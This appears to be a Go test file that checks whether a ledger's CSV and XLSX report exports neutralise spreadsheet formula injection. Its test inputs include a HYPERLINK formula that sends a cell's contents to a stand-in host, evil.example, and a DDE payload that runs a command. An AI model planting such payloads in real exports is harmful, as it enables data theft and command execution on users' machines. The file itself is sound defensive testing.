package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/gwanje/gwanje/internal/ledger"
)

// injected are ledger fields a stranger or a user can type: a login name,
// a purpose, a party. Each starts with a character a spreadsheet reads as
// the start of a formula.
var injected = []string{`=HYPERLINK("http://evil.example/?x="&A1,"확인")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}

func injectionEntries() []ledger.Entry {
	var es []ledger.Entry
	for i, s := range injected {
		es = append(es, ledger.Entry{Seq: uint64(i + 1), Kind: ledger.LoginFailed, Time: t0, Actor: s, Purpose: s, Party: s})
	}
	return es
}

// TestCSVFormulaInjection: no cell of the CSV starts with a formula
// character; the text is kept after a leading apostrophe.
func TestCSVFormulaInjection(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, injectionEntries()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(injected) {
		t.Fatalf("%d rows", len(rows))
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with a formula character: %q", i+1, Columns[j], cell)
			}
		}
		// (The CSV reader drops a lone CR, so compare after the apostrophe
		// without it.)
		if want := strings.TrimLeft(injected[i], "\r"); !strings.HasPrefix(row[6], "'") || strings.TrimLeft(row[6][1:], "\r") != want {
			t.Errorf("row %d party %q, want '%q", i+1, row[6], want)
		}
		if !strings.HasPrefix(row[4], "'") {
			t.Errorf("row %d actor %q not escaped", i+1, row[4])
		}
	}
}

// TestXLSXCellsAreStrings: the same text lands in XLSX cells of string
// type with no formula.
func TestXLSXCellsAreStrings(t *testing.T) {
	var b bytes.Buffer
	if err := WriteXLSX(&b, injectionEntries(), Meta{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i := range injected {
		for _, col := range []string{"E", "F", "G"} {
			cell := fmt.Sprintf("%s%d", col, 5+i)
			if fm, _ := f.GetCellFormula(SheetName, cell); fm != "" {
				t.Errorf("%s holds formula %q", cell, fm)
			}
			typ, err := f.GetCellType(SheetName, cell)
			if err != nil {
				t.Fatal(err)
			}
			if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s has cell type %v, want a string", cell, typ)
			}
		}
		if v, _ := f.GetCellValue(SheetName, fmt.Sprintf("G%d", 5+i)); v != injected[i] {
			t.Errorf("G%d = %q, want %q", 5+i, v, injected[i])
		}
	}
}
